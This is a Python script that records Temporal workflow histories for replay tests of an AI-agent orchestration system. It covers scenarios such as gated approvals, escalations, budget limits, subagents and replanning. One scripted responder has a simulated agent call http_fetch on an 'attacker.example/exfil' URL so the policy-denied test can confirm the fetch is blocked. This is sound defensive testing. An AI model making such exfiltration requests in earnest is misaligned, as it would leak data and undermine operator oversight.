"""Record goal histories into tests/histories/ for the replay tests: one named recipe per scenario, each
re-recordable on its own against a fresh dev server (started with settings.DEV_SERVER_FLAGS).

    .venv/bin/python -m tests.record_history --list              # every recipe and its scenario
    .venv/bin/python -m tests.record_history approval-denied     # record one (or several) by name
    .venv/bin/python -m tests.record_history --all               # record every recipe
    .venv/bin/python -m tests.record_history --all --out /tmp/h  # try recipes without touching tests/histories/

Most recipes run the scripted model (`testkit.models.ScriptedModel`, under the real activity name
`call_model`): fast and deterministic. `research-brief` and `llm-planned` run the real `call_model` on
the embedded model. A recipe with `plans` also starts a `PlannerServer` (tests/helpers.py: a real local
OpenAI-protocol server) that plans from that list and judges, and points the goal's planner and verifier
at it (its address is in the recorded request; replay never calls it). A recipe says which GoalResult
status its goal must end with (failed, escalated and budget_exceeded are scenarios too); a run whose
workflow execution did not complete, that ended with another status, or that does not replay is
refused, and nothing is written.

Each goal runs under the workflow id `recorded-NAME`, and tests/test_replay.py replays NAME.json under
the same id (a parent's child ids derive from its own, and replay compares them). A recipe whose goal
delegates to subagents may also keep some children's histories (each a `GoalWorkflow` of its own, id
`recorded-NAME/STEP`) as NAME-STEP.json. A recipe whose goal continues as new says how many runs it takes:
each run that ended there (WORKFLOW_EXECUTION_CONTINUED_AS_NEW, its next run's input in its last event) is
kept as NAME-runN.json (N from 1), the final run as NAME.json; all under the same id, each replayed; a chain
of another length is refused.

Re-record when a workflow change is *meant* to change histories; otherwise a failing replay test means
the change broke determinism for runs already in flight. tests/test_replay.py checks each history against
a row keyed by its file name that proves the scenario: a new recipe needs a row there.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import tempfile
import uuid
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from temporalio.api.enums.v1 import EventType
from temporalio.client import Client, WorkflowHandle, WorkflowHistory
from temporalio.contrib.pydantic import pydantic_data_converter
from temporalio.testing import WorkflowEnvironment

import settings
from contracts.approvals import APPROVAL_SIGNAL, DENY_UPDATE, ApprovalSignal
from contracts.goal import STATUS_QUERY, Budget, GoalProgress, GoalRequest, GoalResult, GoalStatus, StepStatus
from contracts.llm import ChatMessage, ModelRequest
from core.search_attributes import SEARCH_ATTRIBUTES
from devserver import find_binary
from tests.fakes import (
    WEAK,
    Responder,
    ScriptedModel,
    answer,
    by_instruction,
    call_tool,
    calls_then_reports,
    executor,
    fills_sql,
    guided,
    notes_from_memory,
    researcher_answers,
    step_role,
    tool_messages,
    weak_then_good,
)
from tests.helpers import (
    DRAFT,
    GOAL,
    VARIANTS,
    PlannerServer,
    approve_everything,
    chain,
    decide,
    escalating_playbook,
    fan_in_playbook,
    explore_playbook,
    fallback_playbook,
    gated_long_playbook,
    gated_playbook,
    long_goal_reply,
    mcp_playbook,
    models,
    notes_config,
    pending,
    replan_llm_plans,
    replan_resolver_plans,
    replannable_playbook,
    replay,
    resolve,
    single_step_playbook,
    sql_chain_steps,
    team_playbooks,
    waiting,
)
from worker import all_activities, build_worker
from workflows.goal import GoalWorkflow

HISTORIES = Path(__file__).resolve().parent / "histories"
GOAL_TIMEOUT_S = 120  # the embedded model plans and writes in well under a minute
CONTINUED_NOTES = 6  # `continue-as-new`: the first run drains after 4 or 5 notes (120 events), the second finishes
Drive = Callable[[WorkflowHandle], Awaitable[None]]
Setup = Callable[[Path, pytest.MonkeyPatch], GoalRequest]


@dataclass(frozen=True)
class Recipe:
    """One scenario: the goal it starts (writing any playbook it needs under a folder of its own), the
    model (`None`: the embedded one), what the humans around it do meanwhile, and how it must end."""

    scenario: str
    setup: Setup
    status: GoalStatus
    respond: Responder | None = None
    drive: Drive | None = None
    children: tuple[str, ...] = ()  # subagent step ids whose child workflow's history is kept too
    plans: tuple[str, ...] = ()  # a PlannerServer's plans, in order: the goal plans and judges on it
    runs: int = 1  # the goal's runs (it continues as new runs - 1 times): each ended run is kept as NAME-runN.json


def workflow_id(name: str) -> str:
    """The id recipe NAME's goal runs under. Its subagents' ids derive from it and replay compares them,
    so tests/test_replay.py replays NAME.json under this id."""
    return f"recorded-{name}"


def child_file(name: str, step: str) -> str:
    return f"{name}-{step}"


def run_file(name: str, run: int) -> str:
    """Run RUN (1 for the first) of recipe NAME's goal, one that ended by continuing as new."""
    return f"{name}-run{run}"


def recipe_of(stem: str) -> str:
    """The recipe whose goal a history file belongs to: NAME for NAME.json and for its runs NAME-runN.json
    (all recorded under `workflow_id(NAME)`); a child's file names its parent in its own request."""
    return next((name for name, recipe in RECIPES.items() if stem in {run_file(name, run) for run in range(1, recipe.runs)}), stem)


# --- what the humans do --------------------------------------------------------------------------


async def approve_all(handle: WorkflowHandle) -> None:
    await approve_everything(handle, ("bob", "carol"))


async def deny(handle: WorkflowHandle) -> None:
    (request,) = await pending(handle)
    await decide(handle, "bob", request, update=DENY_UPDATE)


async def approve_by_signal(handle: WorkflowHandle) -> None:
    """A signal the workflow refuses (carol is no editor) and recorded, then alice's approval."""
    (request,) = await pending(handle)
    for approver in ("carol", "alice"):
        await handle.signal(APPROVAL_SIGNAL, ApprovalSignal(
            request_id=request.request_id, approver=approver, decision="approve", action_sha256=request.action_sha256))


async def approve_as_alice(handle: WorkflowHandle) -> None:
    """Alice approves whatever `pending` lists on the goal: a subagent's requests too, routed to it."""
    await approve_everything(handle, ("alice",))


async def retry_with_guidance(handle: WorkflowHandle) -> None:
    (escalation,) = await waiting(handle)
    await resolve(handle, escalation, "bob", "retry", guidance="Say that durable execution keeps every step.")


async def approve_after_continuing(handle: WorkflowHandle) -> None:
    """Alice approves the one request only once the goal has continued as new (the request crossed the boundary
    still pending, under the same id) and every other step that can run has finished: the publish's last turn
    and the summary then run alone in the final run, whatever the timing."""
    (request,) = await pending(handle)
    while True:
        progress = await handle.query(STATUS_QUERY, result_type=GoalProgress)
        others = [s for s in progress.steps if s.step_id not in ("publish", "sum")]
        if progress.continuations and all(s.status is StepStatus.COMPLETED for s in others):
            break
        await asyncio.sleep(0.05)
    if [r.request_id for r in await pending(handle)] != [request.request_id]:
        raise SystemExit(f"the request {request.request_id} did not cross the boundary as it was")
    await decide(handle, "alice", request)


def resolve_with(decision: str, guidance: str = "") -> Drive:
    async def drive(handle: WorkflowHandle) -> None:
        (escalation,) = await waiting(handle)
        await resolve(handle, escalation, "bob", decision, guidance)

    return drive


# --- goals and models ----------------------------------------------------------------------------


def gated(**rule: object) -> Setup:
    """A drafter step, then a publish of its output bound to the draft's hash, gated by `rule`."""

    def setup(folder: Path, monkeypatch: pytest.MonkeyPatch) -> GoalRequest:
        name = gated_playbook(folder, monkeypatch, content="{{steps.a.output}}", expected_sha256="{{steps.a.sha256}}", **rule)
        return GoalRequest(goal="Publish a short note on durable execution", playbook=name)

    return setup


def mcp_write(folder: Path, monkeypatch: pytest.MonkeyPatch) -> GoalRequest:
    """A publisher posts a note through the test notes server's `post_note` (no side effect declared: write)."""
    notes_config(folder, monkeypatch)
    return GoalRequest(goal="Post the note on retries", playbook=mcp_playbook(folder, monkeypatch, "publisher", ["mcp:notes:post_note"]))


def one_step(goal: str, budget: Budget | None = None, **step: object) -> Setup:
    def setup(folder: Path, monkeypatch: pytest.MonkeyPatch) -> GoalRequest:
        name = single_step_playbook(folder, monkeypatch, **step)
        return GoalRequest(goal=goal, playbook=name, **({"budget": budget} if budget else {}))

    return setup


def fan_in(folder: Path, monkeypatch: pytest.MonkeyPatch) -> GoalRequest:
    """Two independent steps, then one that joins their outputs; two steps may run at once."""
    monkeypatch.setenv("FOREMAN_PLAYBOOKS_DIR", str(folder / "playbooks"))
    return GoalRequest(goal="Two views, one brief", playbook=fan_in_playbook(folder / "playbooks"), max_parallel_steps=2)


def builtin(goal: str, playbook: str | None = None) -> Setup:
    return lambda folder, monkeypatch: GoalRequest(goal=goal, playbook=playbook)


def escalating(folder: Path, monkeypatch: pytest.MonkeyPatch) -> GoalRequest:
    return GoalRequest(goal="Explain durable execution", playbook=escalating_playbook(folder, monkeypatch))


def long_gated(folder: Path, monkeypatch: pytest.MonkeyPatch) -> GoalRequest:
    """tests/helpers.py's `gated_long_playbook` (tests/test_continue_as_new.py's goal, fewer notes): a gated
    publish beside independent note steps, two at a time, continuing as new past 120 history events."""
    return GoalRequest(goal="Publish a notice and note facts", playbook=gated_long_playbook(folder, monkeypatch, CONTINUED_NOTES),
                       max_parallel_steps=2, continue_as_new_after_events=120)


def team(**options: object) -> Setup:
    """tests/helpers.py's `team_playbooks` (`team`, as tests/test_subagents.py runs it): subagent steps r1
    and r2 (lead role, children on the `sub` playbook) in parallel, then a merge step."""

    def setup(folder: Path, monkeypatch: pytest.MonkeyPatch) -> GoalRequest:
        name = team_playbooks(folder, monkeypatch, **options)
        return GoalRequest(goal="Explain durable execution", playbook=name, budget=Budget(max_model_calls=20))

    return setup


def explore_budget(folder: Path, monkeypatch: pytest.MonkeyPatch) -> GoalRequest:
    """tests/test_explore.py's budget case (tests/helpers.py `explore_playbook`): three variants, the best
    one third, two model calls allowed."""
    name = explore_playbook(folder, monkeypatch, [VARIANTS[2], VARIANTS[0], VARIANTS[1]])
    return GoalRequest(goal="Explain durable execution", playbook=name, budget=Budget(max_model_calls=2))


def replannable(folder: Path, monkeypatch: pytest.MonkeyPatch) -> GoalRequest:
    """tests/test_replanning.py's resolver case (tests/helpers.py `replannable_playbook`)."""
    return GoalRequest(goal=GOAL, playbook=replannable_playbook(folder, monkeypatch))


def with_fallback(folder: Path, monkeypatch: pytest.MonkeyPatch) -> GoalRequest:
    """tests/test_replanning.py's fallback case (tests/helpers.py `fallback_playbook`)."""
    return GoalRequest(goal=GOAL, playbook=fallback_playbook(folder, monkeypatch))


def sql_chain(folder: Path, monkeypatch: pytest.MonkeyPatch) -> GoalRequest:
    """tests/test_tool_chains.py's first case (tests/helpers.py `sql_chain_steps`)."""
    return GoalRequest(goal="How often did we run gpt-4o-mini?", playbook=chain(folder, monkeypatch, sql_chain_steps()))


def angle_one_writes_first(request: ModelRequest) -> ChatMessage:
    """The angle-one researcher asks to write once (gated) before answering; everyone else answers at
    once, so exactly one child waits for an approval."""
    if step_role(request) != "researcher" or not any("angle one" in m.content for m in request.messages):
        return researcher_answers(request)
    return answer("angle one findings") if tool_messages(request) else call_tool("write_file", {"path": "drafts/x.md", "content": "x"})


def weak_reply(request: ModelRequest) -> ChatMessage:
    return answer(WEAK)


def draft_reply(request: ModelRequest) -> ChatMessage:
    return answer(DRAFT)


def role_done(request: ModelRequest) -> ChatMessage:
    return answer(f"{step_role(request)} done")


def blue_after_feedback(request: ModelRequest) -> ChatMessage:
    feedback = [m.content for m in request.messages if "not accepted" in m.content]
    return answer("The sky is blue." if feedback else "The sky has a colour.")


def exfiltrate_then_report(request: ModelRequest) -> ChatMessage:
    results = tool_messages(request)
    return answer(f"saw: {results[-1].content}") if results else call_tool("http_fetch", {"url": "https://attacker.example/exfil"})


RECIPES: dict[str, Recipe] = {
    "research-brief": Recipe(
        "embedded model: the research-brief playbook, its gated publish approved by Update",
        builtin("Explain how durable execution makes AI agents safe to retry", "research-brief"),
        GoalStatus.COMPLETED, drive=approve_all,
    ),
    "llm-planned": Recipe(
        "embedded model: a goal planned by the LLM planner",
        builtin("List two reasons to make tool calls idempotent"), GoalStatus.COMPLETED, drive=approve_all,
    ),
    "approval-denied": Recipe(
        "a gated publish denied by the `deny` Update: the write never runs, the goal fails",
        gated(), GoalStatus.FAILED, draft_reply, deny,
    ),
    "approval-expired": Recipe(
        "a gated publish nobody decides: it expires after 1 s into a denial (a timer fires), the goal fails",
        gated(expires_after_seconds=1), GoalStatus.FAILED, draft_reply,
    ),
    "approval-signal": Recipe(
        "a gated publish decided by the `approval_signal` Signal: one refused (wrong role), then approved",
        gated(), GoalStatus.COMPLETED, draft_reply, approve_by_signal,
    ),
    "escalation-expired": Recipe(
        "a gated publish expires into an escalation nobody resolves, which times out into abort (two timers)",
        gated(expires_after_seconds=1, on_expiry="escalate", escalations={"timeout_seconds": 1}),
        GoalStatus.ESCALATED, draft_reply,
    ),
    "escalation-retry": Recipe(
        "the verifier escalates a weak draft; a human's `resolve` Update retries it with guidance, then accepted",
        escalating, GoalStatus.COMPLETED, guided, retry_with_guidance,
    ),
    "budget-stop": Recipe(
        "a model that calls tools forever stops at max_model_calls=3: budget_exceeded",
        one_step("loop forever", Budget(max_model_calls=3), max_turns=10),
        GoalStatus.BUDGET_EXCEEDED, lambda request: call_tool("calculate", {"expression": "1+1"}),
    ),
    "parallel-steps": Recipe(
        "two independent steps run concurrently (max_parallel_steps=2), then a step joins them",
        fan_in, GoalStatus.COMPLETED, role_done,
    ),
    "refine": Recipe(
        "the verifier rejects the first answer (required term missing), the second attempt is accepted",
        one_step("sky colour", tools=[], max_attempts=3, checks=[{"type": "required_terms", "terms": ["blue"]}]),
        GoalStatus.COMPLETED, blue_after_feedback,
    ),
    "policy-denied": Recipe(
        "a researcher's http_fetch to a host its policy does not allow: denied, nothing scheduled, the model told",
        one_step("fetch it", role="researcher", tools=["http_fetch"]), GoalStatus.COMPLETED, exfiltrate_then_report,
    ),
    "subagents": Recipe(
        "two subagent steps run as child GoalWorkflows (<parent>/r1, <parent>/r2) in parallel, then a merge step",
        team(), GoalStatus.COMPLETED, researcher_answers, children=("r1",),
    ),
    "subagent-approval": Recipe(
        "a child's gated write approved by the parent's `approve` Update, routed to the child by a Signal",
        team(child_gate=True), GoalStatus.COMPLETED, angle_one_writes_first, approve_as_alice,
    ),
    "explore": Recipe(
        "an explore step with three variants and max_model_calls=2: the third never runs, budget_exceeded",
        explore_budget, GoalStatus.BUDGET_EXCEEDED, by_instruction,
    ),
    "escalation-accept": Recipe(
        "the verifier escalates a weak draft; a human's `resolve` Update accepts it as it is: completed",
        escalating, GoalStatus.COMPLETED, weak_reply, resolve_with("accept"),
    ),
    "escalation-abort": Recipe(
        "the verifier escalates a weak draft; a human's `resolve` Update aborts: escalated",
        escalating, GoalStatus.ESCALATED, weak_reply, resolve_with("abort"),
    ),
    "replan-llm": Recipe(
        "an LLM-planned goal whose second step fails for good: the planner revises the rest from what is done",
        builtin(GOAL), GoalStatus.COMPLETED, executor, plans=replan_llm_plans(),
    ),
    "replan-resolver": Recipe(
        "the verifier escalates a playbook step; a human's `resolve` Update asks for a new plan, with guidance",
        replannable, GoalStatus.COMPLETED, weak_then_good, resolve_with("replan", "Say why a repeat is harmless."),
        plans=replan_resolver_plans(),
    ),
    "fallback": Recipe(
        "a playbook tool step fails (read_file: no such file); its declared fallback step stands in for it",
        with_fallback, GoalStatus.COMPLETED, notes_from_memory,
    ),
    "tool-chain": Recipe(
        "two sql_query tool steps chained by extraction; one model call fills the second's SQL (model_fills)",
        sql_chain, GoalStatus.COMPLETED, fills_sql("SELECT COUNT(*) AS n FROM runs WHERE model = 'gpt-4o-mini'"),
    ),
    "mcp-gated": Recipe(
        "an MCP tool with no declared side effect (write) waits for an editor's approval, then runs once as call_mcp_tool",
        mcp_write, GoalStatus.COMPLETED,
        calls_then_reports("mcp__notes__post_note", {"topic": "retries", "text": "Retries need idempotency."}), approve_as_alice,
    ),
    "continue-as-new": Recipe(
        "a long goal continues as new with its gated publish parked (approval pending); alice approves in the next run",
        long_gated, GoalStatus.COMPLETED, long_goal_reply, approve_after_continuing, runs=2,
    ),
}


# --- recording -----------------------------------------------------------------------------------


async def outcome(handle: WorkflowHandle, drive: Drive | None) -> GoalResult:
    """The goal's result, while `drive` plays the humans; a driver that fails fails the recording."""
    result = asyncio.create_task(handle.result())
    driver = asyncio.create_task(drive(handle)) if drive else None
    try:
        async with asyncio.timeout(GOAL_TIMEOUT_S):
            await asyncio.wait([t for t in (result, driver) if t], return_when=asyncio.FIRST_COMPLETED)
            if driver and driver.done() and driver.exception():
                raise driver.exception()
            return await result
    finally:
        tasks = [t for t in (result, driver) if t]
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)  # e.g. an Update's reply cut off by the cancel


async def ended_history(
    handle: WorkflowHandle, name: str, ended: EventType.ValueType = EventType.EVENT_TYPE_WORKFLOW_EXECUTION_COMPLETED,
) -> WorkflowHistory:
    """The run's history, once it ended as `ended` (COMPLETED whatever the goal's status, or CONTINUED_AS_NEW),
    replayed."""
    history = await handle.fetch_history()
    if history.events[-1].event_type != ended:
        raise SystemExit(f"{name}: the run did not end {EventType.Name(ended)}: {EventType.Name(history.events[-1].event_type)}")
    await replay(history)
    return history


async def record(client: Client, name: str, folder: Path, out: Path) -> list[Path]:
    recipe = RECIPES[name]
    with pytest.MonkeyPatch.context() as monkeypatch, contextlib.ExitStack() as servers:
        monkeypatch.setenv("FOREMAN_HOME", str(folder / "home"))  # its own workspace, content store, corpus index
        for variable in ("FOREMAN_WORKSPACE", "FOREMAN_CONTENT_STORE", "FOREMAN_CORPUS_INDEX"):
            monkeypatch.delenv(variable, raising=False)
        request = recipe.setup(folder, monkeypatch)
        if recipe.plans:  # up until the goal ends: the planner revises and the judge scores mid-run
            request = request.model_copy(update={"models": models(servers.enter_context(PlannerServer(*recipe.plans)))})
        activities = all_activities(ScriptedModel(recipe.respond).activity()) if recipe.respond else None
        task_queue = f"record-{uuid.uuid4().hex[:8]}"
        async with build_worker(client, task_queue, activities=activities):
            handle = await client.start_workflow(GoalWorkflow.run, request, id=workflow_id(name), task_queue=task_queue)
            result = await outcome(handle, recipe.drive)
    if result.status is not recipe.status:
        raise SystemExit(f"{name}: the goal ended {result.status.value}, not {recipe.status.value}: {result.error}")
    if len(result.continuations) != recipe.runs - 1:
        raise SystemExit(f"{name}: the goal took {len(result.continuations) + 1} runs, not {recipe.runs}")
    histories = {}
    for continuation in result.continuations:  # each ended run, by its run id; the handle's id names the last
        stem = run_file(name, continuation.run)
        ran = client.get_workflow_handle(handle.id, run_id=continuation.run_id)
        histories[stem] = await ended_history(ran, stem, EventType.EVENT_TYPE_WORKFLOW_EXECUTION_CONTINUED_AS_NEW)
    histories[name] = await ended_history(client.get_workflow_handle(handle.id, run_id=(await handle.describe()).run_id), name)
    for step in recipe.children:
        child = client.get_workflow_handle(f"{handle.id}/{step}")
        histories[child_file(name, step)] = await ended_history(child, child_file(name, step))
    out.mkdir(parents=True, exist_ok=True)
    paths = []
    for stem, history in histories.items():
        paths.append(out / f"{stem}.json")
        paths[-1].write_text(history.to_json())
    return paths


async def record_all(names: list[str], out: Path) -> None:
    environment = await WorkflowEnvironment.start_local(
        dev_server_existing_path=find_binary("temporal"),
        data_converter=pydantic_data_converter,
        dev_server_extra_args=settings.DEV_SERVER_FLAGS,
        search_attributes=SEARCH_ATTRIBUTES,  # recorded goals upsert them, as on a set-up server
        dev_server_log_level="error",
        ui=False,
    )
    try:
        with tempfile.TemporaryDirectory(prefix="foreman-record-") as tmp:
            for name in names:
                for path in await record(environment.client, name, Path(tmp) / name, out):
                    events = len(json.loads(path.read_text())["events"])
                    print(f"{path}  {path.stat().st_size / 1024:.1f} KB  {events} events", flush=True)
    finally:
        await environment.shutdown()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("names", nargs="*", metavar="NAME", help="recipes to record (see --list)")
    parser.add_argument("--list", action="store_true", help="list the recipes and exit")
    parser.add_argument("--all", action="store_true", help="record every recipe")
    parser.add_argument("--out", type=Path, default=HISTORIES, help=f"where to write NAME.json (default {HISTORIES})")
    args = parser.parse_args()
    if args.list:
        width = max(map(len, RECIPES))
        for name, recipe in RECIPES.items():
            model = "embedded" if recipe.respond is None else "scripted"
            stems = [child_file(name, step) for step in recipe.children] + [run_file(name, run) for run in range(1, recipe.runs)]
            files = ", ".join(f"{stem}.json" for stem in stems)
            server = " (plans and judges on a PlannerServer)" if recipe.plans else ""
            print(f"{name:<{width}}  {model:<8}  {recipe.status.value:<15}  {recipe.scenario}{server}" + (f" (also {files})" if files else ""))
        return
    unknown = [n for n in args.names if n not in RECIPES]
    if unknown or not (args.names or args.all):
        parser.error(f"unknown recipe {unknown[0]!r} (see --list)" if unknown else "name a recipe, or --all, or --list")
    asyncio.run(record_all(list(RECIPES) if args.all else args.names, args.out))


if __name__ == "__main__":
    main()
